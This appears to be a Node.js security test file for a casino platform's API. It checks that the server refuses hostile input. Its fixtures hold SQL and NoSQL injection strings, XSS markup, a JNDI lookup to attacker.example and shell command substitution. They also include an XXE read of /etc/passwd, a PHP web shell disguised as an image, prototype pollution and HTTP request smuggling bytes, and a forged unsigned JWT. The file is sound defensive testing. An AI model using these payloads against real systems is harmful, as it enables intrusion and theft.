import assert from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import { performance } from 'node:perf_hooks';
import { after, before, describe, it } from 'node:test';
import { login, register } from '@jangada/contracts/domains/auth/endpoints';
import { sendMessage } from '@jangada/contracts/domains/chat/endpoints';
import { getGame, listGames } from '@jangada/contracts/domains/games/endpoints';
import { createDeposit } from '@jangada/contracts/domains/payments/endpoints';
import {
  createAddress,
  getAddress,
  getProfile,
  getWallet,
  uploadAvatar,
} from '@jangada/contracts/domains/profile/endpoints';
import { requestWithdrawal } from '@jangada/contracts/domains/wallet/endpoints';
import { answerBeforeClose } from '@jangada/server/testing/raw-answer';
import { digest } from '../../src/crypto/tokens.ts';
import { aCpf, aPlayer, type Player } from '../support/players.ts';
import { guest, startTestPlatform, type TestPlatform } from '../support/test-platform.ts';
import { SOLVED } from '../support/third-parties.ts';
import { upload } from '../support/uploads.ts';

let platform: TestPlatform;
let port = 0;
let player: Player;
let games = 0;
before(async () => {
  platform = await startTestPlatform();
  await platform.server.listen({ port: 0, host: '127.0.0.1' });
  port = (platform.server.server.address() as AddressInfo).port;
  player = await aPlayer(platform.db, { cash: 100_000 });
  games = (await platform.call(listGames)).body.games.total;
});
after(() => platform.stop());

const search = async (text: string) => {
  const { status, body } = await platform.call(listGames, { query: { searchTerm: text } });
  return { status, total: body.nearest ? 0 : (body.games?.total ?? 0) };
};

describe('injection into the search of games', () => {
  for (const [title, text] of [
    ['a quote that ends the text finds nothing', `' or '1'='1`],
    ['a second statement finds nothing and drops nothing', `x'; drop table games; --`],
    ['a UNION of accounts finds nothing', `' union select phone, password_hash from users --`],
    ['a statement that sleeps is not run', `'; select pg_sleep(20); --`],
    ['a dollar-quoted text finds nothing', `$$ or true $$`],
    ['a placeholder is a text', '$1'],
    ['a cast that fails is a text', `' and 1=cast((select version()) as int) --`],
    ['a comment is a text', '/**/or/**/1=1'],
    ['a template is not evaluated', '{{7*7}}${7*7}<%= 7*7 %>'],
    ['a command of a shell is a text', '`id`; $(id) | id'],
    ['a lookup of a logger is a text', '${jndi:ldap://attacker.example/a}'],
  ] as const)
    it(title, async () => {
      const startedMs = performance.now();
      assert.deepEqual(await search(text), { status: 200, total: 0 });
      assert.ok(performance.now() - startedMs < 15_000, 'it was run');
      assert.equal((await platform.call(listGames)).body.games.total, games);
    });
  for (const [title, text] of [
    ['a wildcard of LIKE does not find every game', 'z%z'],
    ['a single-character wildcard of LIKE does not find every game', 'z_z'],
    ['an escape character at the end does not break the search', 'abc\\'],
  ] as const)
    it(title, async () => {
      const { status, total } = await search(text);
      assert.ok(status === 200 && total < games, `${status} ${total}`);
    });
});

describe('injection into the sign-in', () => {
  for (const [title, body, status] of [
    ['a quote in the name does not sign in', { username: `' or 1=1 --`, password: 'segredo123' }, 422],
    ['a quote in the password does not sign in', { username: '11987650001', password: `' or '1'='1` }, 422],
    ['an operator of a document database is no password', { username: '11987650001', password: { $ne: null } }, 422],
    ['an operator of a document database is no name', { username: { $gt: '' }, password: 'segredo123' }, 422],
    ['a list is no name', { username: ['11987650001'], password: 'segredo123' }, 422],
    ['true is no password', { username: '11987650001', password: true }, 422],
    [
      'fields of an account in the body change nothing',
      { username: '11987650001', password: 'x', id: 1, kyc_status: 'approved' },
      422,
    ],
  ] as const)
    it(title, async () => {
      const answered = await platform.call(login, { body });
      assert.equal(answered.status, status, JSON.stringify(answered.body));
    });
});

/** The API stores each text unchanged or refuses it; escaping is left to the renderer (React). */
const markup = [
  ['a script element', '<script>alert(1)</script>'],
  ['an image with a handler', '"><img src=x onerror=alert(1)>'],
  ['an SVG with a handler', '<svg/onload=alert(1)>'],
  ['an address that runs script', 'javascript:alert(1)'],
  ['the end of a script element', '</script><script>alert(1)</script>'],
  ['an attribute that is closed', "' autofocus onfocus=alert(1) x='"],
] as const;

describe('markup in texts of players', () => {
  for (const [what, text] of markup) {
    it(`in an address: ${what}, is stored to the letter and answered as JSON that no browser sniffs`, async () => {
      const { token } = await aPlayer(platform.db);
      const body = { zip: '60160230', street: text, number: '1', district: 'M', city: 'Fortaleza', state: 'CE' };
      assert.equal((await platform.call(createAddress, { token, body })).status, 200);
      const { body: stored, headers } = await platform.call(getAddress, { token });
      assert.equal(stored.data.street, text);
      assert.match(String(headers['content-type']), /^application\/json/);
    });
    it(`in the chat: ${what}, is a text of plain characters or refused`, async () => {
      const { token } = await aPlayer(platform.db);
      const { status, body } = await platform.call(sendMessage, { token, body: { text, type: 'global' } });
      assert.ok(
        status === 422 || (status === 200 && JSON.stringify(body).includes(JSON.stringify(text).slice(1, -1))),
        `${status}`,
      );
    });
  }
});

describe('a stolen or made-up token', () => {
  const profile = async (headers: Record<string, string>, query: Record<string, string> = {}) =>
    (await platform.call(getProfile, { headers, query })).status;
  for (const [title, headersOf] of [
    [
      'in a cookie opens nothing: another site’s page sends cookies',
      ({ token }) => ({ cookie: `token=${token}; jangada_token=${token}` }),
    ],
    ['in a header of another name opens nothing', ({ token }) => ({ 'x-authorization': `Bearer ${token}` })],
    ['as Basic opens nothing', ({ token }) => ({ authorization: `Basic ${token}` })],
    ['without its scheme opens nothing', ({ token }) => ({ authorization: token })],
    ['cut off opens nothing', ({ token }) => ({ authorization: `Bearer ${token.slice(0, -1)}` })],
    ['with another letter opens nothing', ({ token }) => ({ authorization: `Bearer ${token}a` })],
    ['in other case opens nothing', ({ token }) => ({ authorization: `Bearer ${token.toUpperCase()}` })],
    [
      'as its digest, which a copy of the database has, opens nothing',
      ({ token }) => ({ authorization: `Bearer ${digest(token)}` }),
    ],
    ['beside another one opens nothing', ({ token }) => ({ authorization: `Bearer ${token}, Bearer ${token}` })],
    ['of a launch of a game opens no account', ({ launchToken }) => ({ authorization: `Bearer ${launchToken}` })],
    ['that is the player’s number opens nothing', ({ user }) => ({ authorization: `Bearer ${user.id}` })],
    [
      'that says it is signed by nobody opens nothing',
      () => ({ authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOjF9.' }),
    ],
    ['that is the player’s number as a guest opens nothing', ({ user }) => ({ 'guest-id': String(user.id) })],
    [
      'over a header that asks to be believed opens nothing',
      ({ user }) => ({ 'x-user-id': String(user.id), 'x-forwarded-user': String(user.id) }),
    ],
  ] as const satisfies readonly (readonly [string, (owner: Player) => Record<string, string>])[])
    it(title, async () => assert.equal(await profile(headersOf(player)), 401));

  it('in the address opens nothing: addresses end up in logs', async () => {
    assert.equal(await profile({}, { token: player.token, access_token: player.token }), 401);
  });

  it('brought along to a sign-in is not the one that is signed in: the server makes a new one', async () => {
    const known = 'an-attackers-own-token-of-43-characters-xxxx';
    const person = {
      first_name: 'Ana',
      last_name: 'Souza',
      username: '(11) 981234567',
      email: 'fixation@exemplo.com',
      password: 'mar-alto-8',
      password_confirmation: 'mar-alto-8',
      cpf: aCpf(),
      is_adult: true,
      terms: true,
      captcha: SOLVED,
      token: known,
    };
    const { status, body } = await platform.call(register, {
      body: person,
      guest,
      headers: { authorization: `Bearer ${known}` },
    });
    assert.equal(status, 200);
    assert.notEqual(body.token ?? body.data.token, known);
    assert.equal(await profile({ authorization: `Bearer ${known}` }), 401);
  });
});

describe('a request for more money than there is', () => {
  for (const [title, amount] of [
    ['a negative deposit is refused', -5_000],
    ['a deposit of nothing is refused', 0],
    ['a part of a centavo is refused', 5_000.5],
    ['a number that a double cannot hold is refused', 2 ** 60],
    ['an amount as a text is refused', '5000'],
    ['an amount as a list is refused', [5_000]],
    ['an amount as an object is refused', { valueOf: 5_000 }],
    ['an endless amount is refused', 1e308],
  ] as const)
    it(title, async () => {
      const { token } = player;
      for (const endpoint of [createDeposit, requestWithdrawal])
        assert.equal((await platform.call(endpoint, { token, body: { amount, withdraw_method_id: 1 } })).status, 422);
      assert.equal((await platform.call(getWallet, { token })).body.balance ?? 100_000, 100_000);
    });
});

describe('a file that is not what it says', () => {
  for (const [title, content, fileName] of [
    ['an SVG with a script is no avatar', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'a.jpg'],
    ['an HTML page is no avatar', '<!doctype html><script>alert(1)</script>', 'a.png'],
    ['an HTML page behind the first bytes of a GIF is no avatar', 'GIF89a/*<script>alert(1)</script>*/', 'a.gif'],
    ['a script behind the first bytes of a JPEG is no avatar', '\xff\xd8\xff\xe0<?php system($_GET[0]); ?>', 'a.php'],
    ['a ZIP file is no avatar', 'PK\x03\x04aaaaaaaaaaaa', 'a.webp'],
    ['an executable is no avatar', '\x7fELF\x02\x01\x01\x00', '../../../usr/bin/node'],
    [
      'an entity of XML is not resolved',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
      'a.svg',
    ],
    ['an empty file is no avatar', '', 'a.jpg'],
  ] as const)
    it(title, async () => {
      const file = Buffer.from(content, 'latin1');
      const { status, body } = await upload(platform, uploadAvatar, { token: player.token, file, fileName });
      // A file that begins like a picture counts as a damaged picture.
      const isRead = content === '' || content.startsWith('\xff\xd8\xff');
      assert.equal(status, isRead ? 422 : 415, JSON.stringify(body));
    });
});

describe('names of the language in a body or a query', () => {
  const send = (payload: string, type = 'application/json', url = '/auth/login') =>
    platform.server.inject({ method: 'POST', url, headers: { host: 'localhost', 'content-type': type }, payload });
  for (const [title, act] of [
    ['__proto__ in JSON changes no other object', () => send('{"__proto__":{"isAdmin":true,"username":"x"}}')],
    ['__proto__ inside a field changes no other object', () => send('{"username":{"__proto__":{"isAdmin":true}}}')],
    [
      'constructor.prototype in JSON changes no other object',
      () => send('{"constructor":{"prototype":{"isAdmin":true}}}'),
    ],
    [
      '__proto__ in a form changes no other object',
      () => send('__proto__[isAdmin]=true&__proto__=1', 'application/x-www-form-urlencoded', '/broadcasting/auth'),
    ],
    [
      '__proto__ in a query changes no other object',
      () =>
        platform.server.inject({
          url: '/casinos/games?__proto__[isAdmin]=true&__proto__=1&constructor[prototype][isAdmin]=1',
          headers: { host: 'localhost' },
        }),
    ],
    [
      '__proto__ as a name of a part of an upload changes no other object',
      () =>
        platform.server.inject({
          method: 'POST',
          url: uploadAvatar.path,
          headers: {
            host: 'localhost',
            authorization: `Bearer ${player.token}`,
            'content-type': 'multipart/form-data; boundary=b',
          },
          payload: '--b\r\ncontent-disposition: form-data; name="__proto__"\r\n\r\n{"isAdmin":true}\r\n--b--\r\n',
        }),
    ],
    [
      '__proto__ as a parameter of an address finds nothing',
      () => platform.server.inject({ url: '/pages/__proto__', headers: { host: 'localhost' } }),
    ],
    [
      'a name of every object as a tenant is unknown',
      () =>
        platform.server.inject({
          method: 'POST',
          url: '/webhooks/pix/constructor/pix',
          headers: { 'content-type': 'application/json' },
          payload: '{}',
        }),
    ],
  ] as const)
    it(title, async () => {
      const { statusCode } = await act();
      assert.ok(statusCode < 500, `${statusCode}`);
      assert.equal(Reflect.get({}, 'isAdmin'), undefined);
    });
});

/** The status line of each answer on one connection. */
const statusesOf = async (bytes: string): Promise<number[]> =>
  [...(await answerBeforeClose(port, bytes)).matchAll(/^HTTP\/1\.1 (\d{3}) /gm)].map(([, status]) => Number(status));

const CLOSE = 'connection: close\r\n';
const HIDDEN = 'GET /hidden HTTP/1.1\r\nhost: localhost\r\n\r\n';
const BODY = 'content-type: application/json\r\n';

describe('a request whose head two servers read differently', () => {
  for (const [title, bytes, expected] of [
    [
      'two Host headers are refused',
      `GET /banners HTTP/1.1\r\nhost: localhost\r\nhost: tucano.localhost\r\n${CLOSE}\r\n`,
      [400],
    ],
    ['no Host header is refused', `GET /banners HTTP/1.1\r\n${CLOSE}\r\n`, [400]],
    ['a host that is nobody’s has no tenant', `GET /banners HTTP/1.1\r\nhost: evil.example\r\n${CLOSE}\r\n`, [404]],
    [
      'a host with a user before it has no tenant',
      `GET /banners HTTP/1.1\r\nhost: localhost@evil.example\r\n${CLOSE}\r\n`,
      [404],
    ],
    [
      'a length and chunks in one request are refused, and nothing behind is read as a request',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
      [400],
    ],
    [
      'two lengths are refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}content-length: 2\r\ncontent-length: 40\r\n\r\n{}${HIDDEN}`,
      [400],
    ],
    [
      'a length that is a list is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}content-length: 2, 2\r\n\r\n{}`,
      [400],
    ],
    [
      'a length with a sign is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}content-length: +2\r\n\r\n{}`,
      [400],
    ],
    [
      'an unknown transfer coding is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n`,
      [400],
    ],
    [
      'chunked that is not the last coding is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
      [400],
    ],
    [
      'a space before the colon of a header is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}content-length : 2\r\n\r\n{}`,
      [400],
    ],
    ['a folded header is refused', `GET /banners HTTP/1.1\r\nhost: localhost\r\nx-a: b\r\n c\r\n${CLOSE}\r\n`, [400]],
    ['a NUL in a header is refused', `GET /banners HTTP/1.1\r\nhost: localhost\r\nx-a: b\0c\r\n${CLOSE}\r\n`, [400]],
    [
      'a bare line feed does not end a header',
      `GET /banners HTTP/1.1\r\nhost: localhost\r\nx-a: b\nx-c: d\r\n${CLOSE}\r\n`,
      [400],
    ],
    [
      'a chunk whose size is no number is refused',
      `POST /auth/login HTTP/1.1\r\nhost: localhost\r\n${BODY}transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
      [400],
    ],
    ['a method that is none is refused', `GETS /banners HTTP/1.1\r\nhost: localhost\r\n\r\n`, [400]],
  ] as const)
    it(title, async () => assert.deepEqual(await statusesOf(bytes), expected));

  for (const header of [
    'x-forwarded-host',
    'x-host',
    'x-original-host',
    'forwarded',
    'x-original-url',
    'x-rewrite-url',
  ])
    it(`${header} names no other tenant and no other address`, async () => {
      const value =
        header === 'forwarded' ? 'host=tucano.localhost' : header.endsWith('url') ? '/profile' : 'tucano.localhost';
      const [plain, tricked] = [
        await platform.call(listGames),
        await platform.call(listGames, { headers: { [header]: value } }),
      ];
      assert.deepEqual(tricked.body, plain.body);
    });

  it('X-HTTP-Method-Override makes no other method of a call', async () => {
    const headers = { host: 'localhost', 'x-http-method-override': 'POST' };
    const { statusCode } = await platform.server.inject({ url: '/auth/login', headers });
    assert.equal(statusCode, 405);
  });
});

describe('a page of another site', () => {
  const post = (headers: Record<string, string>, payload = '{"username":"11987650001","password":"x"}') =>
    platform.server.inject({ method: 'POST', url: '/auth/login', headers: { host: 'localhost', ...headers }, payload });
  for (const [title, type] of [
    ['a form of text/plain, which needs no preflight, is refused', 'text/plain'],
    ['a form of name and value, which needs no preflight, is refused', 'application/x-www-form-urlencoded'],
    ['a form of parts, which needs no preflight, is refused', 'multipart/form-data; boundary=b'],
    ['a body without a type is refused', ''],
  ] as const)
    it(title, async () => assert.equal((await post(type ? { 'content-type': type } : {})).statusCode, 415));

  for (const [title, origin] of [
    ['a domain that ends like ours reads no answer', 'http://evil-localhost:8080'],
    ['a domain that begins like ours reads no answer', 'http://localhost.evil.example:8080'],
    ['a page in a sandboxed frame reads no answer', 'null'],
    ['a page of another port reads no answer', 'http://localhost:9'],
    ['another tenant’s page reads no answer', 'http://tucano.localhost:8080'],
    ['an origin with a user in it reads no answer', 'http://localhost:8080@evil.example'],
    ['a file reads no answer', 'file://'],
  ] as const)
    it(title, async () => {
      const { headers } = await post({ 'content-type': 'application/json', origin });
      assert.equal(headers['access-control-allow-origin'], undefined);
      assert.equal(headers['access-control-allow-credentials'], undefined);
    });
});

describe('a request that costs more than it should', () => {
  /** Far above the time that these requests take on a busy machine, and far below that of an exponential algorithm. */
  const QUICK_MS = 10_000;
  const json = (payload: string, url = '/auth/login') =>
    platform.server.inject({
      method: 'POST',
      url,
      headers: { host: 'localhost', 'content-type': 'application/json' },
      payload,
    });
  const long = 'x'.repeat(60_000);
  for (const [title, act, expected] of [
    [
      'sixty thousand fields are refused by their size',
      () => json(`{${Array.from({ length: 60_000 }, (_, at) => `"${at}":1`).join(',')}}`),
      413,
    ],
    [
      'thirty thousand lists inside one another are malformed',
      () => json(`${'['.repeat(30_000)}${']'.repeat(30_000)}`),
      400,
    ],
    ['a name of sixty thousand letters is refused', () => json(JSON.stringify({ username: long, password: 'x' })), 422],
    [
      'a password of sixty thousand letters is not hashed',
      () => json(JSON.stringify({ username: '11987650001', password: long })),
      422,
    ],
    [
      'an e-mail that makes a pattern go back and forth is refused',
      () => json(JSON.stringify({ username: 'a@'.repeat(15_000), password: 'x' })),
      422,
    ],
    [
      'a search of four thousand letters is refused',
      () =>
        platform.server.inject({
          url: `/casinos/games?searchTerm=${'a'.repeat(4_000)}`,
          headers: { host: 'localhost' },
        }),
      422,
    ],
    [
      'a page far behind the last is empty or refused',
      () => platform.server.inject({ url: '/casinos/games?page=999999999999', headers: { host: 'localhost' } }),
      422,
    ],
    [
      'a thousand parameters of a query are read once',
      () => platform.server.inject({ url: `/casinos/games?${'a=1&'.repeat(1_000)}`, headers: { host: 'localhost' } }),
      200,
    ],
    [
      'a compressed body is not unpacked',
      () =>
        platform.server.inject({
          method: 'POST',
          url: '/auth/login',
          headers: { host: 'localhost', 'content-type': 'application/json', 'content-encoding': 'gzip' },
          payload: Buffer.from([0x1f, 0x8b, 8, 0]),
        }),
      400,
    ],
    [
      'a number of ten thousand digits is refused',
      () => json(`{"username":${'9'.repeat(10_000)},"password":"x"}`),
      422,
    ],
  ] as const)
    it(title, async () => {
      const startedMs = performance.now();
      const { statusCode, body } = await act();
      assert.equal(statusCode, expected, body.slice(0, 200));
      assert.ok(performance.now() - startedMs < QUICK_MS);
    });

  it('a range of a number that is no row of ours is not found, not an error of the database', async () => {
    for (const gameId of ['0', '-1', '2147483648', '9223372036854775808', '1e99', '0x1', '1;2'])
      assert.ok([404, 422].includes((await platform.call(getGame, { params: { gameId, id: gameId } })).status), gameId);
  });
});
